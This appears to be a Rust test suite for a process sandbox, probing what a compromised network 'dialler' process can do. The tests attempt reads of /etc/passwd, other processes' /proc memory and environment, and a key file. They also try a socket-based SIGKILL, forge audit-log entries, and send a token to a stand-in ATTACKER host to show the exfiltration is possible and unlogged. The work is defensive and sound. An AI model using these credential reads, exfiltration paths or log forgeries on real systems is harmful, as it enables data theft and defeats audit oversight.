//! What can a compromised dialler do? It has the host's network: that much is shown here too, so that nobody believes otherwise.

use std::net::{Ipv4Addr, SocketAddr};
use std::process::{Command, Stdio};
use std::time::Duration;

use bottle_lab::addresses::{ATTACKER, FOREIGN_DNS};
use rustix::io::Errno;

use crate::calls;
use crate::forged;
use crate::puppet::Puppet;
use crate::running::Held;
use crate::scene;
use crate::world::{LIMIT, World, text};

/// Which signal, in place of SIGIO (linux/fcntl.h).
const F_SETSIG: i32 = 10;

const TOKEN: &[u8] = b"token-of-the-compromised-dialler";

/// What it needs beside what both do.
#[rustfmt::skip]
const OWN: &[i64] = &[
    libc::SYS_socket, libc::SYS_connect, libc::SYS_bind, libc::SYS_openat, libc::SYS_statx, libc::SYS_lseek,
    libc::SYS_pread64, libc::SYS_newfstatat,
];

#[test]
fn a_compromised_dialler_can_start_serve_and_reach_no_process() {
    let world = World::new();
    let running = scene::bottle(&world);
    let dialler = Puppet::hold(&running.processes().dialler);
    calls::assert_refused(&dialler, OWN);
    let accepting = [libc::SYS_accept4, libc::SYS_splice, libc::SYS_pipe2];
    accepting.iter().for_each(|number| assert_eq!(dialler.call(*number, &[]), Err(Errno::PERM)));
    for family in 0..64 {
        for kind in 1..=10 {
            for protocol in [0, libc::IPPROTO_ICMP, libc::IPPROTO_SCTP, libc::IPPROTO_RAW, 262] {
                let internet = [libc::AF_INET, libc::AF_INET6].contains(&family);
                let known = [libc::SOCK_STREAM, libc::SOCK_DGRAM].contains(&kind) && protocol == 0;
                if !(internet && known) {
                    let made = dialler.call(libc::SYS_socket, &[family as u64, kind as u64, protocol as u64]);
                    assert!(made.is_err(), "family {family}, kind {kind}, protocol {protocol}: {made:?}");
                }
            }
        }
    }
    drop(dialler);
    scene::assert_unharmed(&world, running);
}

#[test]
fn a_compromised_dialler_reads_no_file_but_how_names_are_resolved() {
    let world = World::new();
    let running = scene::bottle(&world);
    let processes = running.processes();
    let (audit, key, near) = (world.audit(), world.path("state/data/keys/bottle.key"), world.project("near"));
    std::fs::write(&near, "canary").unwrap();
    let of = |pid: u32, what: &str| format!("/proc/{pid}/{what}");
    let others = [&processes.supervisor, &processes.gate, &processes.init, &processes.workload];
    let theirs = others
        .iter()
        .flat_map(|other| ["mem", "environ", "maps", "fd/0", "root/etc/passwd"].map(|what| of(other.pid, what)));
    let files = [text(&audit), text(&key), text(&near), "/etc/passwd", "/etc", "/", "/proc/self/mem", "/dev/null"];
    let dialler = Puppet::hold(&processes.dialler);
    for path in files.into_iter().map(str::to_owned).chain(theirs) {
        dialler.forget();
        let at = dialler.path(&path);
        let opened = dialler.call(libc::SYS_openat, &[libc::AT_FDCWD as u64, at, libc::O_RDONLY as u64, 0]);
        assert!(opened.is_err(), "{path}");
    }
    for flags in [libc::O_WRONLY, libc::O_RDWR, libc::O_CREAT, libc::O_TRUNC] {
        dialler.forget();
        let at = dialler.path("/etc/resolv.conf");
        let opened = dialler.call(libc::SYS_openat, &[libc::AT_FDCWD as u64, at, flags as u64, 0o666]);
        assert_eq!(opened, Err(Errno::PERM), "flags {flags:#x}");
    }
    dialler.forget();
    let at = dialler.path("/etc/resolv.conf");
    let opened = dialler.call(libc::SYS_openat, &[libc::AT_FDCWD as u64, at, libc::O_RDONLY as u64, 0]).unwrap();
    dialler.call(libc::SYS_close, &[opened.cast_unsigned()]).unwrap();
    drop(dialler);
    scene::assert_unharmed(&world, running);
}

/// A socket sends signals to whom it is told (fcntl(2), F_SETOWN), without kill(2).
#[test]
fn a_compromised_dialler_sends_no_signal_by_a_socket() {
    let world = World::new();
    let running = scene::bottle(&world);
    let mut canary = Command::new("sleep").arg("600").stdout(Stdio::null()).spawn().unwrap();
    let held = Held::new(canary.id());
    let dialler = Puppet::hold(&running.processes().dialler);
    let socket =
        dialler.call(libc::SYS_socket, &[libc::AF_INET as u64, libc::SOCK_DGRAM as u64, 0]).unwrap().cast_unsigned();
    let own = SocketAddr::from((Ipv4Addr::LOCALHOST, 40777));
    let (address, length) = dialler.address(own);
    dialler.call(libc::SYS_bind, &[socket, address, length]).unwrap();
    let set = |command: i32, value: u64| dialler.call(libc::SYS_fcntl, &[socket, command as u64, value]);
    let steps = [
        set(libc::F_SETOWN, canary.id().into()),
        set(F_SETSIG, libc::SIGKILL as u64),
        set(libc::F_SETFL, (libc::O_ASYNC | libc::O_NONBLOCK) as u64),
    ];
    dialler.send_to(socket, own, TOKEN).unwrap();
    let killed = held.ends_within(Duration::from_millis(200));
    dialler.call(libc::SYS_close, &[socket]).unwrap();
    drop(dialler);
    canary.kill().unwrap();
    canary.wait().unwrap();
    assert!(!killed, "{steps:?}");
    assert_eq!(steps[..2], [Err(Errno::PERM); 2]);
    scene::assert_unharmed(&world, running);
}

/// Not a promise but its limit, as SECURITY.md says it.
#[test]
fn a_compromised_dialler_has_the_hosts_network_and_that_is_in_no_log() {
    let world = World::new();
    let running = scene::bottle(&world);
    let dialler = Puppet::hold(&running.processes().dialler);
    let make = |kind: i32| {
        dialler.forget();
        dialler.call(libc::SYS_socket, &[libc::AF_INET as u64, kind as u64, 0]).unwrap().cast_unsigned()
    };
    let stream = make(libc::SOCK_STREAM);
    dialler.connect(stream, SocketAddr::from((ATTACKER, 9))).unwrap();
    let at = dialler.put(TOKEN);
    dialler.call(libc::SYS_write, &[stream, at, TOKEN.len() as u64]).unwrap();
    let datagrams = make(libc::SOCK_DGRAM);
    dialler.send_to(datagrams, SocketAddr::from((FOREIGN_DNS, 9)), TOKEN).unwrap();
    for socket in [stream, datagrams] {
        dialler.call(libc::SYS_close, &[socket]).unwrap();
    }
    drop(dialler);
    let arrived = |received: &bottle_lab::Received| received.service == "collector" && received.head == TOKEN;
    world.lab.wait_for(LIMIT, arrived).unwrap();
    scene::assert_unharmed(&world, running);
    assert_eq!(world.entries_of("decision").len(), 1, "the workload's own");
}

/// What it says of its own decisions is written down as it says it, so much is its to forge; nothing else of the log is.
#[test]
fn a_compromised_dialler_forges_decisions_of_its_own_and_no_other_entry() {
    let world = World::new();
    let running = scene::bottle(&world);
    let processes = running.processes();
    let dialler = Puppet::hold(&processes.dialler);
    let supervisor = dialler.channel_to(&world, &processes.supervisor);
    let opened: serde_json::Value = serde_json::from_str(&forged::attempt(
        40001,
        &serde_json::json!({ "lease": "never.lab.example" }),
        "28.9.9.9:443",
        443,
        "transparent",
        &serde_json::json!("opaque"),
    ))
    .unwrap();
    let decided = serde_json::json!({ "Decided": { "attempt": opened["Open"], "decision": { "allow": "forged" } } });
    let answer = dialler.ask(supervisor, &decided.to_string());
    assert_eq!(answer, "{\"Recorded\":[40001]}");
    // The same attempt again breaks a rule of the log, so it is not written, and whoever asked is told so.
    let answer = dialler.ask(supervisor, &decided.to_string());
    assert_eq!(answer, "{\"NotRecorded\":[40001]}");
    drop(dialler);
    scene::assert_unharmed(&world, running);
    let forged: Vec<_> = world.entries_of("decision").into_iter().filter(|entry| entry["rule"] == "forged").collect();
    assert_eq!(forged.len(), 1);
    assert_eq!((&forged[0]["name"], &forged[0]["decision"]), (&"never.lab.example".into(), &"allow".into()));
    for word in
        ["{\"RunEnd\":{}}", "{\"Drift\":{\"what\":\"route\",\"detail\":\"\"}}", "{\"Seal\":{}}", "{\"RunRenew\":{}}"]
    {
        let world = World::new();
        let running = scene::bottle(&world);
        let processes = running.processes();
        let dialler = Puppet::hold(&processes.dialler);
        let supervisor = dialler.channel_to(&world, &processes.supervisor);
        let said = dialler.say(supervisor, word.as_bytes(), &[]);
        assert!(said == Ok(word.len() as i64) || said == Err(Errno::SRCH), "{said:?}");
        drop(dialler);
        assert_eq!(running.end().code, 137, "{word}");
        let drift = world.entries_of("drift");
        assert_eq!((drift.len(), &drift[0]["what"]), (1, &"dialler".into()), "{word}");
        assert!(world.entries_of("run.renew").is_empty());
        world.verify_log().ok();
    }
}
